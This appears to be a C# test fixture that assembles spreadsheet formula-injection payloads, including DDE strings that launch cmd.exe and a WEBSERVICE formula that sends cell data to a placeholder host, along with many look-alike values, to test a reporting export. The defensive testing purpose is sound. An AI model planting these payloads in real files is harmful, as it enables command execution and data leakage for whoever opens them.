namespace TcoBench.Reporting.Tests;

/// <summary>Texts that some program takes for a formula, a number, a date or markup when it opens a file.</summary>
internal static class Payloads
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", " =", "＝", "＋", "－", "＠", "\u00A0=", "_x003D_", ";="];

    private static readonly string[] Formulas =
    [
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://zqx.example\",\"click\")", "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"zqx\")", "WEBSERVICE(\"http://zqx.example/\"&A1)", "IMPORTXML(\"http://zqx.example\",\"//a\")",
        "msexcel|'\\..\\..\\cmd.exe /c calc.exe'!zqx", "A1", "1", "designer_rate",
    ];

    private static readonly string[] LookAlikes =
    [
        "1e5", "1E+05", "00123", "1,5", "1.50", "1:30", "12%", "€5", "1 1/2", "0x1F", "1_000", "٣", "NaN", "Infinity", "-", "=", "2024-01-01", "01/02/2024", "5-Mar", "MARCH1", "SEPT2", "TRUE", "false", "yes", "null", "~",
        "#REF!", "#N/A", "{=1}", "$A$1", "R1C1", "keep", "<f>1+1</f>", "]]>", "<![CDATA[=1]]>", "&#61;1", "&lt;", "\"&A1&\"", "_x0041_", "_x000D_=1", "two\nlines", "a\ttab", "%0A=1", "=1+1\"", "🙂=1",
        "=" + new string('1', 9_000), new string('é', 12_000),
    ];

    /// <summary>All of them.</summary>
    internal static IReadOnlyList<string> All { get; } = [.. Starts.SelectMany(s => Formulas.Select(f => s + f)), .. LookAlikes];
}
